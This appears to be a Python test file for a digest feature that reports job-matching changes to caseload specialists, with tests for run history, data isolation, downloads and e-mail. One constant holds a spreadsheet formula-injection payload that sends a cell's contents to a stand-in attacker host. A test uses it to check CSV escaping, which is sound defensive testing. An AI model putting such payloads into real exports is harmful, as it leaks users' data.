"""The morning digest over several runs: the one change, no cascade, labels, history, isolation, mail.

Two nightly runs with one opening filled between them, then an admin's extra run: the
second digest tells the fill (and no #7 -> #6 moves), names clients by label and the
specialist by name, and the history keeps all three (API and pages). Another
specialist's clients never appear; the e-mail reaches a local SMTP sink (aiosmtpd).
"""

from __future__ import annotations

import csv
import io
import re
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path
from typing import Any

from aiosmtpd.controller import Controller

from api.mail import MailConfig
from api.models import User
from api.rematch.models import RematchDigest
from api.rematch.run import JobOptions, run_job
from tests.api.conftest import AS_OF, Api, World, make_test_client
from tests.api.tamper_util import fresh_api
from tests.web.conftest import Browser

MINE = {"ana": "Ana P.", "ben": "Ben Q. (never free)"}
THEIRS = "Zed Other-Caseload"
LINK = '=HYPERLINK("http://evil.example/?x="&A1)'
_MOVE = re.compile(r"#(\d+) to #(\d+)")


def _world(api: Api, world: World) -> dict[str, str]:
    """Eight openings of eight employers; spec1 carries Ana (fits) and Ben (no suggestions), spec2 Zed."""
    h = world.headers
    for _ in range(8):
        api.create_opening(h["liaison1"], api.create_employer(h["liaison1"])["id"])
    ids = {
        "ana": api.create_client(h["spec1"], label=MINE["ana"])["id"],
        "ben": api.create_client(h["spec1"], label=MINE["ben"], availability=["Sun 02:00-03:00"])["id"],
        "zed": api.create_client(h["spec2"], label=THEIRS)["id"],
    }
    with api.session() as session:
        user = session.get(User, world.users["spec1"].id)
        assert user is not None
        user.full_name = "Dana Reyes"
        session.commit()
    return ids


def _run(api: Api, **options: Any) -> int:
    return run_job(api.app.state.session_factory, as_of=AS_OF, options=JobOptions(**options))


def _first_opening(api: Api, headers: dict[str, str], run_id: int) -> str:
    body = api.get(f"/rematch/digests/{run_id}", headers).json()
    (ana,) = [c for c in body["digest"]["clients"] if c["label"] == MINE["ana"]]
    return str(next(s["opening_id"] for s in ana["changes"]["new"] if s["rank"] == 1))


def test_two_runs_one_change_show_the_change_without_cascade_and_keep_the_history(
    backend: str, tmp_path: Path
) -> None:
    with fresh_api(backend, tmp_path) as (api, world, _url):
        h = world.headers
        ids = _world(api, world)
        first = _run(api)
        filled = _first_opening(api, h["spec1"], first)
        assert api.post(f"/openings/{filled}/fill", h["liaison1"]).status_code == 200
        second = _run(api)
        extra = _run(api, actor=world.users["admin"].username)  # an admin's extra run, nothing changed

        # the history keeps every run, newest first, labelled by kind
        listed = api.get("/rematch/digests", h["spec1"]).json()
        assert [(d["run_id"], d["run_kind"]) for d in listed["data"]] == [
            (extra, "extra"),
            (second, "nightly"),
            (first, "nightly"),
        ]
        assert listed["total"] == 3 and listed["data"][1]["counts"]["gone"] == 1
        page = api.get("/rematch/digests?limit=1&offset=1", h["spec1"]).json()
        assert [d["run_id"] for d in page["data"]] == [second] and page["total"] == 3
        assert api.get("/rematch/digest", h["spec1"]).json()["run_id"] == extra  # the latest stays

        digest = api.get(f"/rematch/digests/{second}", h["spec1"]).json()
        text = digest["markdown"]
        assert (
            digest["title"] == "Morning digest for Dana Reyes, Monday 2 March 2026" == text[2:].split("\n")[0]
        )
        assert "## Suggestions gone" in text and "the opening was filled" in text
        gone = [line for line in text.splitlines() if "the opening was filled" in line]
        assert len(gone) == 1 and gone[0].startswith(f"- **{MINE['ana']}** — ")
        # no cascade: the fill moved every suggestion below it up one, and only a move across
        # the top-3 line may be told (#4 -> #3), never #7 -> #6
        before = api.get(f"/rematch/digests/{first}", h["spec1"]).json()["digest"]
        (ana,) = [c for c in digest["digest"]["clients"] if c["client_id"] == ids["ana"]]
        assert len(ana["changes"]["moved"]) >= 4  # the engine's diff: every suggestion below moved up
        assert ana["n_suggestions"] > 4 and before["totals"]["new"] > 4
        assert _MOVE.findall(text) == [("4", "3")]  # told: the one that entered the top 3
        assert "## Clients with no suggestions" in text and f"**{MINE['ben']}**: no suggestions" in text
        options = next(c for c in digest["digest"]["clients"] if c["client_id"] == ids["ben"])["options"]
        assert options["exclusion_counts"]["SCHEDULE_OUTSIDE_AVAILABILITY"] == 7  # one is filled
        assert "ruled out, each of which has shifts when the client is not available" in text
        for client_id in ids.values():
            assert client_id not in text  # labels, not ids
        assert THEIRS not in text and THEIRS not in digest["csv"] and ids["zed"] not in str(digest)
        rows = list(csv.DictReader(io.StringIO(digest["csv"])))
        assert ("gone", MINE["ana"], filled, "filled") in {
            (r["section"], r["client"], r["opening_id"], r["reason"]) for r in rows
        }

        extra_digest = api.get(f"/rematch/digests/{extra}", h["spec1"]).json()
        assert extra_digest["title"].startswith("Extra digest for Dana Reyes")
        assert "Suggestions gone" not in extra_digest["markdown"]  # nothing changed since the second

        # isolation: the other specialist's history has only their own client, and no run of mine
        theirs = api.get(f"/rematch/digests/{second}", h["spec2"]).json()
        assert {c["client_id"] for c in theirs["digest"]["clients"]} == {ids["zed"]}
        assert not any(label in theirs["markdown"] for label in MINE.values())
        assert api.get("/rematch/digests/999", h["spec1"]).status_code == 404
        assert api.get("/rematch/digests", h["admin"]).status_code == 403

        # the pages: the list by date with both kinds, one digest, its downloads
        with make_test_client(api.app) as http:
            browser = Browser(http)
            browser.log_in(world.users["spec1"])
            caseload = browser.get("/caseload").text
            assert 'href="/digests"' in caseload  # linked from the caseload's navigation
            history = browser.get("/digests").text
            assert history.count('href="/digests/') == 3
            assert "started by an admin" in history and "Nightly run" in history
            one = browser.get(f"/digests/{second}")
            assert one.status_code == 200
            assert "Morning digest for Dana Reyes, Monday 2 March 2026" in one.text
            assert "the opening was filled" in one.text and MINE["ana"] in one.text
            assert THEIRS not in one.text
            assert browser.get(f"/digests/{second}/digest.csv").text == digest["csv"]
            assert browser.get(f"/digests/{second}/digest.md").text == digest["markdown"]
            other = Browser(http)
            other.http.cookies.clear()
            other.log_in(world.users["spec2"])
            assert MINE["ana"] not in other.get(f"/digests/{second}").text


def test_a_hostile_label_is_escaped_in_csv_and_on_the_page(backend: str, tmp_path: Path) -> None:
    with fresh_api(backend, tmp_path) as (api, world, _url):
        h = world.headers
        employer = api.create_employer(h["liaison1"])
        api.create_opening(h["liaison1"], employer["id"])
        api.create_client(h["spec1"], label=LINK[:80])
        api.create_client(h["spec1"], label="<b>bold</b>", availability=["Sun 02:00-03:00"])
        run_id = _run(api)
        digest = api.get(f"/rematch/digests/{run_id}", h["spec1"]).json()
        cells = {r["client"] for r in csv.DictReader(io.StringIO(digest["csv"]))}
        assert "'" + LINK[:80] in cells and LINK[:80] not in cells
        with make_test_client(api.app) as http:
            browser = Browser(http)
            browser.log_in(world.users["spec1"])
            page = browser.get(f"/digests/{run_id}").text
        assert "&lt;b&gt;bold&lt;/b&gt;" in page and "<b>bold</b>" not in page


class _Sink:
    def __init__(self) -> None:
        self.messages: list[tuple[list[str], EmailMessage]] = []

    async def handle_DATA(self, server: object, session: object, envelope: Any) -> str:  # noqa: N802
        message = message_from_bytes(envelope.content, policy=policy.default)
        assert isinstance(message, EmailMessage)
        self.messages.append((list(envelope.rcpt_tos), message))
        return "250 OK"


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@contextmanager
def _smtp_sink() -> Iterator[tuple[_Sink, int]]:
    sink, port = _Sink(), _free_port()
    controller = Controller(sink, hostname="127.0.0.1", port=port)
    controller.start()
    try:
        yield sink, port
    finally:
        controller.stop()


def test_each_specialist_with_an_address_gets_their_digest_by_mail(backend: str, tmp_path: Path) -> None:
    with fresh_api(backend, tmp_path) as (api, world, _url), _smtp_sink() as (sink, port):
        _world(api, world)
        spec1, spec2 = world.users["spec1"].username, world.users["spec2"].username
        mail = MailConfig(
            host="127.0.0.1", port=port, sender="digest@example.org", recipients={spec1: "dana@example.org"}
        )
        run_id = _run(api, mail=mail)
        assert [to for to, _ in sink.messages] == [["dana@example.org"]]  # spec2 has no address: no mail
        _, message = sink.messages[0]
        assert message["Subject"] == "Morning digest for Dana Reyes, Monday 2 March 2026"
        assert message["From"] == "digest@example.org"
        text = message.get_body(("plain",))
        html = message.get_body(("html",))
        assert text is not None and html is not None
        plain, markup = text.get_content().replace("\r\n", "\n"), html.get_content()
        assert plain == api.get(f"/rematch/digests/{run_id}", world.headers["spec1"]).json()["markdown"]
        assert MINE["ana"] in markup and "Dana Reyes" in markup
        # each score in the mail comes with its fit band in words, as on the page
        (listed,) = api.get("/rematch/digests", world.headers["spec1"]).json()["data"]
        strong = listed["counts"]
        banded = re.findall(r"\(score \d+, (strong|good|possible) fit\)", markup)
        assert len(banded) == markup.count("(score ") >= strong["strong_new"] > 0
        assert set(banded) >= {"strong"}
        assert THEIRS not in plain and THEIRS not in markup
        # standalone: inline styles only, nothing fetched, no script
        assert not re.search(r"<(link|script|img|style)\b|class=", markup)
        assert 'style="' in markup
        assert spec2  # (a second specialist exists and was skipped above)


def test_a_mail_server_that_is_down_does_not_fail_the_run(backend: str, tmp_path: Path) -> None:
    with fresh_api(backend, tmp_path) as (api, world, _url):
        _world(api, world)
        spec1 = world.users["spec1"].username
        mail = MailConfig(
            host="127.0.0.1", port=_free_port(), recipients={spec1: "dana@example.org"}, timeout=2
        )
        run_id = _run(api, mail=mail)
        latest = api.get("/rematch/runs/latest", world.headers["admin"]).json()
        assert (latest["id"], latest["status"]) == (run_id, "finished")


def test_a_digest_stored_before_labels_and_kinds_reads_like_a_new_one(backend: str, tmp_path: Path) -> None:
    """An earlier release's digests lack labels, the name and the run's kind: read time fills them."""
    with fresh_api(backend, tmp_path) as (api, world, _url):
        ids = _world(api, world)
        run_id = _run(api, actor=world.users["admin"].username)
        with api.session() as session:
            row = session.get(RematchDigest, (run_id, world.users["spec1"].id))
            assert row is not None
            old = {
                k: v for k, v in row.body.items() if k not in ("specialist_name", "run_kind", "started_at")
            }
            old["clients"] = [
                {k: v for k, v in c.items() if k not in ("label", "options")} for c in old["clients"]
            ]
            row.body = old
            session.commit()
        digest = api.get(f"/rematch/digests/{run_id}", world.headers["spec1"]).json()
        assert digest["title"] == "Extra digest for Dana Reyes, Monday 2 March 2026"
        assert MINE["ana"] in digest["markdown"] and ids["ana"] not in digest["markdown"]
        assert f"**{MINE['ben']}**: no suggestions" in digest["markdown"]  # without what would open more
